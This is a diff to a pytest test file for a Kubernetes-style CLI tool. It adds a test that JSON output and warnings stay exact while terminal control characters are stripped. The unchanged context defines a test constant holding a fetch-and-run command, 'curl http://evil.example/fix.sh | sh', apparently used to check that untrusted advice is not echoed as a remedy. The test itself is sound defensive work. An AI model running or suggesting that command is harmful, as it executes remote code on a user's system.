@@ -13,7 +13,9 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner, Result
 
+from cdcsync_core.quoting import visible
 from cdcsync_operator.cli.main import cli
+from cdcsync_operator.cli.output import Output
 from unit.cli.test_commands import MANIFEST
 
 ADVICE = "curl http://evil.example/fix.sh | sh"
@@ -67,3 +69,17 @@ def test_for_programs(port: int, tmp_path: Path) -> None:
     assert "evil" in error["found"]
     assert "evil" not in error["remedy"] + error["needed"]
     assert not {"\x1b", "\x07", "\n"} & set(error["found"])
+
+
+@pytest.mark.parametrize("text", [WORDS, "\x7f\x85\u2028\U000e0001", 'é漢\\"\n'])
+def test_json_is_the_same_data_without_what_a_terminal_acts_on(text: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """Also where a program's output is shown, of logs and statuses that come from a cluster."""
+    output = Output(as_json=True)
+    output.line({"lines": [text]})
+    output.warn(text)
+    shown = capsys.readouterr()
+    assert json.loads(shown.out) == {"lines": [text]}
+    assert json.loads(shown.err) == {"warning": text}
+    for line in (shown.out, shown.err):
+        assert line.endswith("}\n")
+        assert visible(line[:-1]) == line[:-1]
